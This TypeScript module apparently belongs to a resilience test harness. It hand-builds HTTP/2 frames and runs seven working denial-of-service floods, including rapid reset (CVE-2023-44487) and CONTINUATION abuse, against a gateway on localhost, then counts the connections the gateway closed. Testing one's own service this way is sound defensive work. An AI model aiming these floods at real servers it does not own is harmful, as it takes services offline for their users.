import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import type { Attack } from './attack.ts'
import { repeatFor } from './repeat-for.ts'

const NOTHING: Buffer = Buffer.alloc(0)
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'), frame(4)])
/** GET http://localhost/api/stream, by the static table and without compression (RFC 7541). */
const HEAD = Buffer.concat([Buffer.from([0x82, 0x86]), literal(1, 'localhost'), literal(4, '/api/stream')])
const CANCEL = Buffer.from([0, 0, 0, 8])
const FRAMES_AT_ONCE = 200
const PAUSE_MS = 5

interface FrameParts {
  readonly flags?: number
  readonly stream?: number
  readonly payload?: Buffer
}

/** A frame (RFC 9113 §4.1). */
function frame(type: number, { flags = 0, stream = 0, payload = NOTHING }: FrameParts = {}): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

function literal(nameIndex: number, value: string): Buffer {
  return Buffer.concat([Buffer.from([nameIndex, value.length]), Buffer.from(value, 'latin1')])
}

/** @param turn counts the rounds of one connection */
type Flood = (turn: number) => Buffer

const streamOf = (turn: number, index: number): number => 1 + 2 * (turn * FRAMES_AT_ONCE + index)

function many(make: (index: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: FRAMES_AT_ONCE }, (_, index) => make(index)))
}

const FLOODS: Readonly<Record<string, Flood>> = {
  'rapid reset (CVE-2023-44487)': (turn) =>
    many((index) =>
      Buffer.concat([
        frame(1, { flags: 5, stream: streamOf(turn, index), payload: HEAD }),
        frame(3, { stream: streamOf(turn, index), payload: CANCEL }),
      ]),
    ),
  'CONTINUATION without end (CVE-2024-27983)': (turn) =>
    turn === 0
      ? frame(1, { flags: 1, stream: 1, payload: HEAD })
      : many(() => frame(9, { stream: 1, payload: literal(0, 'x'.repeat(100)) })),
  'PING flood (CVE-2019-9512)': () => many(() => frame(6, { payload: Buffer.alloc(8) })),
  'SETTINGS flood (CVE-2019-9515)': () => many(() => frame(4)),
  'empty DATA frames (CVE-2019-9518)': (turn) =>
    turn === 0 ? frame(1, { flags: 4, stream: 1, payload: HEAD }) : many(() => frame(0, { stream: 1 })),
  'PRIORITY flood (CVE-2019-9513)': (turn) =>
    many((index) => frame(2, { stream: streamOf(turn, index), payload: Buffer.alloc(5) })),
  'answers that nobody reads (CVE-2019-9517)': (turn) =>
    turn === 0 ? many((index) => frame(1, { flags: 5, stream: streamOf(0, index), payload: HEAD })) : Buffer.alloc(0),
}

/** Ten connections at a time, each of them until it is ended; then the next one. */
export const HTTP2_FLOODS: readonly Attack[] = Object.entries(FLOODS).map(([name, flood]) => ({
  name: `HTTP/2: ${name}`,
  run: async ({ port }, { seconds }) => {
    let endedCount = 0
    let frameCount = 0
    const untilMs = performance.now() + seconds * 1_000
    await repeatFor(seconds, 10, async () => {
      const socket = await open(port)
      if (!name.includes('nobody reads')) socket.resume()
      socket.write(PREFACE)
      for (let turn = 0; socket.writable && performance.now() < untilMs; turn += 1) {
        const bytes = flood(turn)
        frameCount += bytes.length === 0 ? 0 : FRAMES_AT_ONCE
        // As fast as it is read, and not faster than leaves the processor to others.
        if (!socket.write(bytes)) await Promise.race([once(socket, 'drain').catch(() => undefined), delay(100)])
        await delay(PAUSE_MS)
      }
      endedCount += socket.writable ? 0 : 1
      socket.destroy()
    })
    return `${frameCount} frames or more, ${endedCount} connections ended by the gateway`
  },
}))

async function open(port: number): Promise<Socket> {
  const socket = connect({ port, host: '127.0.0.1' })
  socket.on('error', () => socket.destroy())
  socket.on('end', () => socket.destroy())
  await Promise.race([once(socket, 'connect'), once(socket, 'close')])
  return socket
}
